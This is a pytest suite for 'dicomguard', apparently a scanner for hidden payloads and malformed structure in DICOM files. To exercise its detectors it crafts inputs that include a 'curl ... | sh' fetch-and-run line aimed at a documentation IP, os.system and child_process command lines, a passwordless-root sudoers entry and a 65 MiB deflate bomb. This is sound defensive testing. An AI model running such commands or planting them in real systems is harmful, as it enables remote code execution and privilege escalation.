"""Every id: declared once, fired by a file, silent on an honest one; and nothing breaks a scan."""

from __future__ import annotations

import re
import zlib
from collections import defaultdict
from collections.abc import Callable
from functools import cache
from random import Random
from struct import pack

import pytest
from hypothesis import given
from hypothesis import settings as effort
from hypothesis import strategies as st

from dicomguard import (
    Category,
    FindingKind,
    Region,
    Report,
    ScanSettings,
    Severity,
    naming,
    scan_bytes,
)
from dicomguard.detectors import DETECTORS
from dicomguard.dicom.budgets import Budgets
from dicomguard.dicom.walker import walk
from dicomguard.incomplete import INCOMPLETE
from dicomguard.unwrap import KINDS as UNWRAPPED
from fixtures import images
from fixtures.build import all_fixtures
from fixtures.carriers import CARRIER, carrier
from fixtures.dicomfile import (
    TRANSFER_SYNTAX,
    UNDEFINED_LENGTH,
    Element,
    bundled,
    element,
    item,
    padded_preamble,
    private,
    sequence,
)
from fixtures.directory import directory
from fixtures.formats import noise
from test_text import ATTACKS, NAMED

STUDY_DESCRIPTION = 0x00081030
COMMENTS = 0x00104000
STUDIES = 0x00081110

ITEM_END = pack("<HHI", 0xFFFE, 0xE00D, 0)
SEQUENCE_END = pack("<HHI", 0xFFFE, 0xE0DD, 0)


def by_detectors() -> dict[str, set[FindingKind]]:
    kinds: dict[str, set[FindingKind]] = defaultdict(set)
    for detector in DETECTORS:
        for kind in detector.kinds:
            kinds[kind.id].add(kind)
    return kinds


def by_rules() -> dict[str, set[FindingKind]]:
    kinds: dict[str, set[FindingKind]] = defaultdict(set)
    for rule in ScanSettings().pack.rules.values():
        for kind in filter(None, (rule.kind, rule.polyglot)):
            kinds[kind.id].add(kind)
    return kinds


ALL_KINDS = sorted(
    {
        *UNWRAPPED,
        *(
            kind
            for kinds in (by_detectors(), by_rules())
            for each in kinds.values()
            for kind in each
        ),
    },
    key=repr,
)
DECLARED = sorted({kind.id for kind in ALL_KINDS})


# ---------------------------------------------------------------------- declarations

ONE_ID_FOR_MANY = {
    "EMB-ARCHIVE": "archives of every format",
    "EMB-SCRIPT": "scripts of every language",
    "POLY-SCRIPT-NOSHEBANG": "scripts of every language",
    "POLY-HTML": "pages with and without script",
}
"""Ids that stand for a class, each member with a title of its own."""


@pytest.mark.parametrize("id_", DECLARED)
def test_an_id_has_one_meaning(id_: str) -> None:
    kinds = {kind for kind in ALL_KINDS if kind.id == id_}
    assert (len({kind.title for kind in kinds}) > 1) == (id_ in ONE_ID_FOR_MANY), kinds


@pytest.mark.parametrize("kind", ALL_KINDS, ids=lambda kind: f"{kind.id} {kind.title}")
def test_a_declaration_says_what_people_need(kind: FindingKind) -> None:
    assert re.fullmatch(r"[A-Z]+(-[A-Z0-9]+)+", kind.id)
    assert kind.title
    assert kind.title == kind.title.strip().removesuffix(".")
    assert "\n" not in kind.title
    assert kind.why.endswith((".", "?"))
    assert not kind.attack or re.fullmatch(r"T\d{4}(\.\d{3})?", kind.attack)
    if kind.category in (Category.CONFORMANCE, Category.INVENTORY):
        assert kind.severity <= Severity.MEDIUM


def test_every_detector_declares_what_it_finds() -> None:
    known = {*DECLARED, INCOMPLETE.id}
    reports = [*fixture_reports().values(), *(report(id_) for id_ in FIRING)]
    assert {each.kind.id for found in reports for each in found.findings} <= known


# ---------------------------------------------------------------------- what fires


@cache
def fixture_reports() -> dict[str, Report]:
    return {name: scan_bytes(fixture.data) for name, fixture in all_fixtures().items()}


def _head(head: bytes) -> Callable[[], bytes]:
    return lambda: carrier().but(preamble=padded_preamble(head)).data


def _ne() -> bytes:
    head = b"MZ".ljust(0x3C, b"\0") + pack("<I", 0x40) + b"NE"
    return carrier().but(preamble=padded_preamble(head)).data


def _inside(content: bytes) -> bytes:
    """The carrier with a sequence item of that content."""
    return carrier().with_(sequence(STUDIES, content)).data


def _delimited(delimiters: bytes) -> bytes:
    """The carrier with a sequence and an item, both of undefined length, that end as given."""
    start = pack("<HHI", 0xFFFE, 0xE000, UNDEFINED_LENGTH)
    value = start + element(COMMENTS, "LT", b"text").encoded + delimiters
    open_ended = element(STUDIES, "SQ", value, length=UNDEFINED_LENGTH)
    return carrier().with_(open_ended).data


def _fragments(value: bytes) -> bytes:
    made = element(0x00420011, "OB", value + SEQUENCE_END, length=UNDEFINED_LENGTH)
    return carrier().with_(made).data


def _text(tag: int, vr: str, value: bytes) -> Callable[[], bytes]:
    return lambda: carrier().with_(element(tag, vr, value)).data


def _nested(levels: int) -> bytes:
    content = b""
    for _ in range(levels):
        content = sequence(STUDIES, content).encoded
    return carrier().with_(sequence(STUDIES, content)).data


def _unregistered() -> bytes:
    return carrier().with_(element(TRANSFER_SYNTAX, "UI", b"1.2.826.0.1.3680043.2.1143")).data


def _coincidence() -> bytes:
    """A bare data set with ``DICM`` at offset 128, in the middle of a text."""
    text = b"x" * (128 - 8) + b"DICM and more"
    rest = (part.encoded for part in carrier().dataset if part.tag > STUDY_DESCRIPTION)
    return element(STUDY_DESCRIPTION, "LO", text).encoded + b"".join(rest)


def _wide() -> bytes:
    """A sequence of 100,001 empty items."""
    empty = pack("<HHI", 0xFFFE, 0xE000, 0)
    return carrier().with_(element(STUDIES, "SQ", empty * 100_001)).data


def _bomb() -> bytes:
    """A deflated data set of 65 MiB, nearly all zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    file = carrier("image_dfl.dcm")
    body = packer.compress(file.body)
    body += packer.compress(element(0x7FE10010, "LO", b"DICOMGUARD FIXTURE").encoded)
    body += packer.compress(element(0x7FE11001, "OB", bytes(65 << 20)).encoded)
    return file.head + body + packer.flush()


def _odd_length(tag: int, vr: str, value: bytes) -> Callable[[], bytes]:
    odd = Element(tag, element(tag, vr, b"", length=len(value)).header, value)
    return lambda: carrier().with_(odd).data


def _mixed() -> bytes:
    implicit = pack("<HHI", 0x0010, 0x4000, 4) + b"text"
    file = carrier()
    parts = [part for part in file.dataset if part.tag < COMMENTS]
    rest = [part for part in file.dataset if part.tag > COMMENTS]
    return file.head + b"".join((*(p.encoded for p in parts), implicit, *(p.encoded for p in rest)))


FIRING: dict[str, Callable[[], bytes]] = {
    **images.FIRING,
    **{
        id_: _text(tag, vr, value)
        for tag, vr, value, id_ in (*ATTACKS.values(), *NAMED.values())
        if id_ not in ("TXT-SHELL", "TXT-XSS")  # fixtures fire these
    },
    "DIR-FILEID": lambda: directory(b"..\\..\\x").data,
    "DIR-OFFSETS": lambda: directory(following=0).data,
    "DS-DELIM": lambda: _delimited(SEQUENCE_END),
    "DS-DEFLATE-BOMB": _bomb,
    "DS-ILLEGAL-GROUP": _text(0x00010010, "LO", b"x"),
    "DS-LEN-ODD": _odd_length(COMMENTS, "LT", b"odd"),
    "DS-LEN-OVERRUN": lambda: _inside(element(COMMENTS, "LT", b"text", length=4000).encoded),
    "DS-LEN-VR": _odd_length(0x00189087, "FD", bytes(6)),
    "DS-MIXED-VR": _mixed,
    "DS-NEST": lambda: _nested(20),
    "DS-UNKNOWN-STD": _text(0x0042FFF0, "OB", bytes(300)),
    "DS-VR-MISMATCH": _text(0x00283010, "OB", bytes(12)),
    "DS-WIDE": _wide,
    "DS-UNDEF-ILLEGAL": lambda: _fragments(item(b"ab")),
    "GAP-DATA": lambda: _inside(b"\xff\xff\xff\xff and other bytes that are no element at all"),
    "GAP-DELIMITER": lambda: _delimited(ITEM_END[:4] + b"hide" + SEQUENCE_END),
    "META-DICM-COINCIDENCE": _coincidence,
    "META-TS-UNKNOWN": _unregistered,
    "POLY-AR": _head(b"!<arch>\n"),
    "POLY-BZ2": _head(b"BZh91AY&SY"),
    "POLY-CPIO": _head(b"070701"),
    "POLY-DESKTOP": _head(b"[Desktop Entry]\nExec=true\n"),
    "POLY-LZ4": _head(b"\x04\x22\x4d\x18"),
    "POLY-NE": _ne,
    "POLY-RPM": _head(b"\xed\xab\xee\xdb"),
    "POLY-SUDOERS": _head(b"someone ALL=(ALL) NOPASSWD: ALL\n"),
    "POLY-XML": _head(b"<?xml version='1.0'?>"),
    "POLY-XZ": _head(b"\xfd7zXZ\0"),
    "POLY-YAML": _head(b"---\nkey: value\n"),
    "POLY-ZSTD": _head(b"\x28\xb5\x2f\xfd"),
    "PRE-MAGIC": _head(b"OggS\0\2"),
    "PRE-OPAQUE": lambda: carrier().but(preamble=noise(128)).data,
    "BULK-TEXT": _text(0x0040A160, "UT", b"one line of a long report\n" * 50_000),
    "FILE-HOST": lambda: carrier().with_(*private(bytes(1 << 20))).data,
    "PRIV-HUGE": lambda: carrier().with_(*private(bytes(17 << 20))).data,
}
"""Files for the ids that no fixture fires."""


@cache
def report(id_: str) -> Report:
    return scan_bytes(FIRING[id_]())


def test_no_file_is_made_here_that_a_fixture_makes() -> None:
    fired = {each.kind.id for found in fixture_reports().values() for each in found.findings}
    assert not fired & set(FIRING)


@pytest.mark.parametrize("id_", DECLARED)
def test_an_id_is_fired_by_a_file(id_: str) -> None:
    if id_ == "PRE-MAGIC" and not naming.is_available():
        pytest.skip("libmagic is not installed")
    reports = [report(id_)] if id_ in FIRING else fixture_reports().values()
    fired = {each.kind.id for found in reports for each in found.findings}
    assert id_ in fired, fired if id_ in FIRING else ""


@pytest.mark.parametrize("rule", sorted(name.name for name in ScanSettings().pack.rules))
def test_a_rule_is_fired_by_a_file(rule: str) -> None:
    reports = [*fixture_reports().values(), *(scan_bytes(_private(each)) for each in _SCRIPTS)]
    assert any(each.rule == rule for found in reports for each in found.findings)


_SCRIPTS = (
    b"curl -s http://192.0.2.1/x | sh; chmod +x /tmp/x",
    b"import os\nos.system('id')\n",
    b"use strict;\nsystem('id');\n",
    b"require('child_process').exec('id')",
)


def _private(content: bytes) -> bytes:
    return carrier().with_(*private(content)).data


# ---------------------------------------------------------------------- what does not


@pytest.mark.parametrize("id_", DECLARED)
def test_an_id_is_silent_on_an_honest_file(id_: str) -> None:
    """Honest, and of the kind that the id is about where a fixture imitates it."""
    silent = [
        name
        for name, fixture in all_fixtures().items()
        if str(fixture.verdict) == "clean"
        and all(each.kind.id != id_ for each in fixture_reports()[name].findings)
    ]
    assert len(silent) >= 5


@pytest.mark.parametrize("name", ["CT_small.dcm", "MR_small.dcm", "image_dfl.dcm"])
def test_an_ordinary_image_has_nothing_to_find(name: str) -> None:
    assert scan_bytes(carrier(name).data).findings == ()


def test_a_miscounted_group_length_weighs_only_if_it_leads_to_an_element() -> None:
    elements = walk(carrier().data).elements
    first = next(each for each in elements if each.region is not Region.META)
    for error, severity in ((-1, Severity.LOW), (first.end - first.start, Severity.MEDIUM)):
        report = scan_bytes(carrier().but(group_length_error=error).data)
        found = [each.kind for each in report.findings if each.kind.id == "META-GL-MISMATCH"]
        assert [kind.severity for kind in found] == [severity]


def test_a_bomb_is_as_bad_as_what_its_stream_promises() -> None:
    file, packer = carrier("image_dfl.dcm"), zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    body = packer.compress(file.body + bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    million = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    report = scan_bytes(file.head + body + million * 1100 + packer.flush())
    bombs = [each.kind.severity for each in report.findings if each.kind.id == "DS-DEFLATE-BOMB"]
    assert bombs == [Severity.HIGH]


def test_sequences_as_deep_as_honest_ones_are_no_finding() -> None:
    assert not scan_bytes(_nested(6)).findings


# ---------------------------------------------------------------------- nothing breaks a scan

SETTINGS = ScanSettings(
    budgets=Budgets(depth=16, elements=5_000, inflated_bytes=1 << 20, seconds=5.0)
)
SMALL = sorted(
    data
    for data in (
        *(fixture.data for fixture in all_fixtures().values()),
        *(make() for make in (*images.FIRING.values(), *images.NEAR_MISSES.values())),
    )
    if len(data) < 16_384
)


def check(data: bytes) -> Report:
    """Scan, and hold every finding to what a report promises."""
    found = scan_bytes(data, "name", SETTINGS)
    assert found.size == len(data)
    for each in found.findings:
        place = each.place
        assert 0 <= place.offset <= place.offset + (place.inner_offset is None) * place.length
        if place.inner_offset is None:
            assert place.offset + place.length <= len(data), each
            assert data[place.offset :].startswith(each.evidence), each
        assert each.place.length >= 0
        assert len(each.evidence) <= 64
        assert each.kind.id in {*DECLARED, INCOMPLETE.id}
    return found


@effort(max_examples=300, deadline=None)
@given(st.binary(max_size=600))
def test_arbitrary_bytes_get_a_report(data: bytes) -> None:
    check(data)


@effort(max_examples=300, deadline=None)
@given(
    st.binary(max_size=400), st.sampled_from([b"\0" * 128, b"MZ".ljust(128, b"\1"), b"II*\0" * 32])
)
def test_arbitrary_bytes_after_a_preamble_get_a_report(data: bytes, preamble: bytes) -> None:
    check(preamble + b"DICM" + data)


@effort(max_examples=300, deadline=None)
@given(st.binary(max_size=600))
def test_arbitrary_bytes_as_a_data_set_get_a_report(data: bytes) -> None:
    check(carrier().head + data)


@effort(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_arbitrary_bytes_as_a_deflate_stream_get_a_report(data: bytes) -> None:
    check(carrier("image_dfl.dcm").head + data)


@effort(max_examples=400, deadline=None)
@given(st.sampled_from(SMALL), st.randoms(use_true_random=False))
def test_mutated_files_get_a_report(original: bytes, random: Random) -> None:
    check(mutated(original, random))


def mutated(original: bytes, random: Random) -> bytes:
    """A file with a few bytes changed, and perhaps pieces cut out, repeated or moved."""
    data = bytearray(original)
    for _ in range(random.randrange(1, 9)):
        at = random.randrange(len(data) or 1)
        size = random.choice((1, 2, 4, 8, 64))
        match random.randrange(4):
            case 0:
                data[at : at + size] = random.randbytes(size)
            case 1:
                data[at : at + size] = b"\xff" * size
            case 2:
                del data[at : at + size * 8]
            case _:
                start = random.randrange(len(data) or 1)
                data[at:at] = data[start : start + size * 8]
    return bytes(data)


CUT = {
    "private": carrier().with_(*private(b"x" * 10_000)),
    "text": carrier().with_(element(COMMENTS, "LT", b"y" * 10_000)),
    "bundled": bundled(CARRIER),
    "deflated": carrier("image_dfl.dcm"),
}


@pytest.mark.parametrize("name", list(CUT))
def test_a_file_cut_anywhere_gets_a_report(name: str) -> None:
    data = CUT[name].data
    for end in (*range(0, 420, 3), *range(420, len(data), 997)):
        check(data[:end])
